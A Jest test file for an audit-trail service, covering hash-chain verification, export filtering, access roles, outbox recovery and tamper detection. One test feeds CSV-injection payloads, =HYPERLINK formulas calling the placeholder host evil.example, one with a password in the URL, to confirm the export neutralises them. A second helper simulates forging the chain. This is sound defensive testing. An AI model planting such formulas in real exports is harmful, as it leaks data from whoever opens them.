import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { chain, GENESIS_HASH, type AuditEntry, type ChainedEvent } from '../src/modules/audit/audit-chain.js';
import { AuditService } from '../src/modules/audit/audit.service.js';
import { as, invoiceRuleset, signInCast } from './support/rulesets.js';
import { startTestApp, startAnotherInstance, type TestApp } from './support/test-app.js';

describe('audit trail', () => {
  let t: TestApp;
  let cast: Awaited<ReturnType<typeof signInCast>>;
  let risk: ReturnType<typeof as>;
  beforeAll(async () => {
    t = await startTestApp('audit');
    cast = await signInCast(t);
    risk = as(t, cast.risk);
    const analyst = as(t, cast.analyst);
    await analyst.post('/api/v1/rulesets', invoiceRuleset('audited'));
    await analyst.post('/api/v1/rulesets/audited/versions/1/submit', { comment: 'Révision annuelle' });
    await as(t, cast.approver).post('/api/v1/rulesets/audited/versions/1/approve', {
      comment: 'Conforme à la politique',
    });
    await t.http.post('/api/v1/auth/login').send({ username: 'risk', password: 'mauvais' });
  });
  afterAll(() => t.close());

  it('verifies an intact chain', async () => {
    const verified = await risk.get('/api/v1/audit/verify');
    expect(verified.status).toBe(200);
    expect(verified.body).toMatchObject({ ok: true, head: expect.stringMatching(/^[0-9a-f]{64}$/) });
    expect(verified.body.events).toBeGreaterThanOrEqual(4);
  });

  it('filters by resource, actor, action and dates, newest first by default', async () => {
    const byResource = await risk.get('/api/v1/audit?resourceType=ruleset&resourceKey=audited');
    expect(byResource.headers['content-range']).toBe('audit 0-2/3');
    expect((byResource.body as { action: string }[]).map((e) => e.action)).toEqual([
      'ruleset.approved',
      'ruleset.submitted',
      'ruleset.created',
    ]);
    expect(byResource.body[0]).toMatchObject({
      actor: 'approver',
      version: 1,
      reason: 'Conforme à la politique',
      summary: { before: { status: 'in_review' }, after: { status: 'approved' } },
    });
    const failures = await risk.get('/api/v1/audit?action=auth.login_failed&actor=risk');
    expect(failures.body).toHaveLength(1);
    const future = await risk.get(
      `/api/v1/audit?from=${encodeURIComponent(new Date(Date.now() + 60_000).toISOString())}`,
    );
    expect(future.body).toEqual([]);
    const viaConsoleFilter = await risk.get(`/api/v1/audit?filter=${encodeURIComponent('{"actor":"approver"}')}`);
    expect((viaConsoleFilter.body as { actor: string }[]).every((e) => e.actor === 'approver')).toBe(true);
    expect((await risk.get('/api/v1/audit?from=yesterday')).status).toBe(400);
    expect((await risk.get('/api/v1/audit?from=2026-06-30T23:59:60Z')).status).toBe(400); // it was ignored
    // Named where it was given: under /filter for the console's JSON, as the other lists name it.
    const inJson = await risk.get(`/api/v1/audit?filter=${encodeURIComponent('{"page":2}')}`);
    expect([inJson.status, inJson.body.details.map((d: { path: string }) => d.path)]).toEqual([400, ['/filter/page']]);
    const asParameter = await risk.get('/api/v1/audit?from=yesterday');
    expect(asParameter.body.details.map((d: { path: string }) => d.path)).toEqual(['/from']);
    // A filter given both ways takes the parameter's value, as the document says.
    const both = await risk.get(`/api/v1/audit?actor=approver&filter=${encodeURIComponent('{"actor":"nobody"}')}`);
    expect(both.status).toBe(200);
    expect((both.body as { actor: string }[]).length).toBeGreaterThan(0);
    expect((both.body as { actor: string }[]).every((e) => e.actor === 'approver')).toBe(true);
  });

  it('exports CSV with hashes, for spreadsheets', async () => {
    const csv = await risk.get('/api/v1/audit/export?resourceKey=audited');
    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    expect(csv.headers['content-disposition']).toContain('attachment');
    const lines = csv.text
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n');
    expect(lines[0]).toBe('seq,at,actor,action,resourceType,resourceKey,version,reason,summary,details,prevHash,hash');
    expect(lines).toHaveLength(4);
    expect(lines[3]).toContain('Conforme à la politique');
    // The export holds every matching event, oldest first: paging it is refused rather than ignored.
    const paged = await risk.get(`/api/v1/audit/export?resourceKey=audited&range=${encodeURIComponent('[0,1]')}`);
    expect([paged.status, paged.body.details]).toEqual([
      400,
      [{ path: '/range', message: 'is not a parameter of the export, which is not paged' }],
    ]);
    const unknown = await risk.get('/api/v1/audit/export?page=2');
    expect(unknown.body.details).toEqual([
      { path: '/page', message: expect.stringMatching(/^is not a parameter of the export, which takes filter, /) },
    ]);
    expect(unknown.body.details[0].message).not.toMatch(/sort|range/);
  });

  it('exports formulas as text: a comment or a username typed as =HYPERLINK(…) never becomes a live cell', async () => {
    const analyst = as(t, cast.analyst);
    await analyst.post('/api/v1/rulesets', invoiceRuleset('formula'));
    await analyst.post('/api/v1/rulesets/formula/versions/1/submit', {
      comment: '=HYPERLINK("https://evil.example","Cliquez")',
    });
    const typed = '=HYPERLINK("https://evil.example/?p=MotDePasse123","ok")';
    await t.http.post('/api/v1/auth/login').send({ username: typed, password: 'x' });
    const csv = (await risk.get('/api/v1/audit/export?resourceKey=formula')).text;
    expect(csv).toContain('"\'=HYPERLINK(""https://evil.example"",""Cliquez"")"');
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const all = (await risk.get('/api/v1/audit/export')).text;
    expect(all).not.toContain('MotDePasse123');
    expect(all).toMatch(/unknown-user:[0-9a-f]{16}/);
  });

  it('is readable by risk officers and admins only', async () => {
    expect((await as(t, cast.admin).get('/api/v1/audit')).status).toBe(200);
    for (const token of [cast.analyst, cast.approver])
      expect((await as(t, token).get('/api/v1/audit/verify')).status).toBe(403);
  });

  it('keeps one linear chain when two instances append at once', async () => {
    const second = await startAnotherInstance(t);
    try {
      const audits = [t.app.get(AuditService), second.app.get(AuditService)];
      await Promise.all(
        Array.from({ length: 40 }, (_, i) =>
          audits[i % 2]!.record({
            actor: `load-${i}`,
            action: 'test.concurrent',
            resourceType: 'test',
            details: { i },
          }),
        ),
      );
      const verified = await risk.get('/api/v1/audit/verify');
      expect(verified.body.ok).toBe(true);
      const seqs = (
        await t.db
          .collection('audit_events')
          .find({}, { projection: { seq: 1 } })
          .sort({ seq: 1 })
          .toArray()
      ).map((e) => e['seq'] as number);
      expect(seqs).toEqual(Array.from({ length: seqs.length }, (_, i) => i + 1));
      expect(await t.db.collection('audit_events').countDocuments({ action: 'test.concurrent' })).toBe(40);
    } finally {
      await second.close();
    }
  });

  it('records an event left in an outbox by a process that died before writing it, exactly once', async () => {
    const orphan = {
      id: randomUUID(),
      at: new Date().toISOString(),
      entry: {
        actor: 'approver',
        action: 'ruleset.published',
        resourceType: 'ruleset',
        resourceKey: 'audited',
        version: 1,
      },
    };
    await t.db.collection('rulesets').updateOne({ _id: 'audited' } as never, { $push: { outbox: orphan } } as never);
    const restarted = await startAnotherInstance(t);
    await restarted.close();
    const again = await startAnotherInstance(t);
    await again.close();
    expect(await t.db.collection('audit_events').countDocuments({ _id: orphan.id } as never)).toBe(1);
    // The next change of the resource drops recorded entries from its outbox.
    await as(t, cast.approver).post('/api/v1/rulesets/audited/versions/1/publish');
    const outbox = (await t.db.collection('rulesets').findOne({ _id: 'audited' } as never))?.['outbox'] as {
      id: string;
    }[];
    expect(outbox.map((o) => o.id)).not.toContain(orphan.id);
    expect(outbox).toHaveLength(1);
    expect((await risk.get('/api/v1/audit/verify')).body.ok).toBe(true);
  });

  it('records key and user events left in their outboxes at the next start', async () => {
    const keyEvent = {
      id: randomUUID(),
      at: new Date().toISOString(),
      entry: { actor: 'admin', action: 'api_key.revoked', resourceType: 'api_key', resourceKey: 'k-orphan' },
    };
    const userEvent = {
      id: randomUUID(),
      at: new Date().toISOString(),
      entry: {
        actor: 'admin',
        action: 'user.roles_changed',
        resourceType: 'user',
        resourceKey: 'analyst',
        summary: { before: ['analyst'], after: ['risk'] },
      },
    };
    await t.db.collection('api_keys').insertOne({
      _id: 'k-orphan',
      name: 'x',
      scopes: ['evaluate:*'],
      secretHash: 'h',
      createdBy: 'admin',
      createdAt: new Date(),
      outbox: [keyEvent],
    } as never);
    await t.db.collection('users').updateOne({ _id: 'analyst' } as never, { $push: { outbox: userEvent } } as never);
    const restarted = await startAnotherInstance(t);
    await restarted.close();
    expect(
      await t.db.collection('audit_events').countDocuments({ _id: { $in: [keyEvent.id, userEvent.id] } } as never),
    ).toBe(2);
    expect((await t.db.collection('api_keys').findOne({ _id: 'k-orphan' } as never))?.['outbox']).toEqual([]);
    expect((await t.db.collection('users').findOne({ _id: 'analyst' } as never))?.['outbox']).toEqual([]);
  });

  it('fails verification after one stored event is altered, naming it', async () => {
    const target = await t.db
      .collection('audit_events')
      .findOne({ action: 'ruleset.approved', resourceKey: 'audited' });
    await t.db.collection('audit_events').updateOne({ _id: target!['_id'] }, { $set: { actor: 'analyst' } });
    const verified = await risk.get('/api/v1/audit/verify');
    expect(verified.body).toMatchObject({
      ok: false,
      events: target!['seq'] - 1,
      brokenAt: { seq: target!['seq'], eventId: target!['_id'], reason: 'hash_mismatch' },
    });

    await t.db.collection('audit_events').updateOne({ _id: target!['_id'] }, { $set: { actor: 'approver' } });
    expect((await risk.get('/api/v1/audit/verify')).body.ok).toBe(true);
    await t.db.collection('audit_events').deleteOne({ seq: 2 });
    expect((await risk.get('/api/v1/audit/verify')).body.brokenAt).toEqual({ seq: 2, reason: 'missing_event' });
  });
});

describe('audit chain keyed and anchored outside the database', () => {
  let t: TestApp;
  let risk: ReturnType<typeof as>;
  const verify = async () =>
    (await risk.get('/api/v1/audit/verify')).body as {
      ok: boolean;
      brokenAt?: { seq: number; reason: string };
      anchor?: { seq: number; head: string };
    };
  const allEvents = async () =>
    (await t.db.collection('audit_events').find({}).sort({ seq: 1 }).toArray()) as unknown as (ChainedEvent & {
      _id: string;
      at: Date;
    })[];
  /**
   * The chain once its last event is anchored. Events reach the chain from the outbox in the background and are
   * anchored after that: on a busy machine the test can see an event its anchor does not cover yet.
   */
  const anchoredEvents = async () => {
    for (let attempt = 1; ; attempt++) {
      const events = await allEvents();
      if ((await verify()).anchor?.seq === events.at(-1)!.seq || attempt === 50) return events;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
  };
  /** What someone with write access to the database, but not the key, can do: recompute every hash from the start. */
  const rewriteWithoutKey = async (events: (ChainedEvent & { _id: string; at: Date })[]) => {
    let prevHash = GENESIS_HASH;
    for (const stored of events) {
      const { _id, at, seq, hash: _hash, prevHash: _prev, mac: _mac, ...entry } = stored;
      const forged = chain(entry as AuditEntry, _id, seq, at.toISOString(), prevHash);
      prevHash = forged.hash;
      const { mac: _dropped, ...plain } = stored;
      await t.db
        .collection('audit_events')
        .replaceOne({ _id } as never, { ...plain, prevHash: forged.prevHash, hash: forged.hash } as never);
      await t.db.collection('audit_chain').updateOne(
        { _id: String(seq) } as never,
        {
          $set: { hash: forged.hash, 'event.hash': forged.hash, 'event.prevHash': forged.prevHash },
          $unset: { 'event.mac': 1 },
        } as never,
      );
    }
  };

  beforeAll(async () => {
    t = await startTestApp('audit_anchors');
    const cast = await signInCast(t);
    risk = as(t, cast.risk);
    await as(t, cast.analyst).post('/api/v1/rulesets', invoiceRuleset('anchored'));
    await as(t, cast.analyst).post('/api/v1/rulesets/anchored/versions/1/submit');
  });
  afterAll(() => t.close());

  /** The anchors written to DATA_DIR, oldest first. */
  const anchorsWritten = () =>
    readFileSync(join(t.config.dataDir, 'audit-anchors.jsonl'), 'utf8')
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { seq: number });

  it('keys every new event, anchors the head in DATA_DIR and the logs, and verifies against the anchor', async () => {
    const events = await anchoredEvents();
    expect(events.length).toBeGreaterThan(3);
    expect(events.every((e) => e.mac === 'hmac-sha256')).toBe(true);
    const verified = await verify();
    expect(verified).toMatchObject({ ok: true, anchor: { seq: events.at(-1)!.seq, head: events.at(-1)!.hash } });
    expect(anchorsWritten().at(-1)!.seq).toBe(events.at(-1)!.seq);
  });

  it('reports a chain rewritten without the key: keyed events cannot be forged, and an all-plain chain misses the anchor', async () => {
    const events = await anchoredEvents();
    // Every hash recomputed from the first, plain sha256: the chain holds together, but with none of the anchors,
    // and the first anchored position is where it is reported (one anchor a second: a slow start writes several).
    await rewriteWithoutKey(events);
    try {
      const verified = await verify();
      expect(verified.ok).toBe(false);
      expect(verified.brokenAt).toEqual({ seq: anchorsWritten()[0]!.seq, reason: 'rewritten' });
    } finally {
      await restoreChain(events);
    }
    expect((await verify()).ok).toBe(true);
  });

  /** Puts the genuine chain back after a rewrite. */
  const restoreChain = async (events: (ChainedEvent & { _id: string; at: Date })[]) => {
    for (const event of events)
      await t.db.collection('audit_events').replaceOne({ _id: event._id } as never, event as never);
    for (const event of events)
      await t.db.collection('audit_chain').updateOne(
        { _id: String(event.seq) } as never,
        {
          $set: {
            hash: event.hash,
            'event.hash': event.hash,
            'event.prevHash': event.prevHash,
            'event.mac': event.mac,
          },
        } as never,
      );
  };

  it('reports a tail cut off, claims and head marker included, as truncated', async () => {
    const events = await allEvents();
    const kept = events.slice(0, -2);
    for (const event of events.slice(-2)) {
      await t.db.collection('audit_events').deleteOne({ _id: event._id } as never);
      await t.db.collection('audit_chain').deleteOne({ _id: String(event.seq) } as never);
    }
    await t.db.collection('audit_head').updateMany({}, { $set: { seq: kept.at(-1)!.seq } });
    const restarted = await startAnotherInstance(t);
    try {
      const token = await restarted.login('risk');
      const verified = (await restarted.http.get('/api/v1/audit/verify').set('authorization', `Bearer ${token}`)).body;
      // The restarted instance has appended (and anchored) after the cut: the older anchor still shows it. (Had an
      // anchor been written at a position the new events now hold, it would say `rewritten` there instead.)
      expect(verified).toMatchObject({
        ok: false,
        brokenAt: { reason: expect.stringMatching(/^(truncated|rewritten)$/) },
      });
      expect(verified.anchor.seq).toBeGreaterThan(kept.at(-1)!.seq);
    } finally {
      await restarted.close();
    }
  });
});
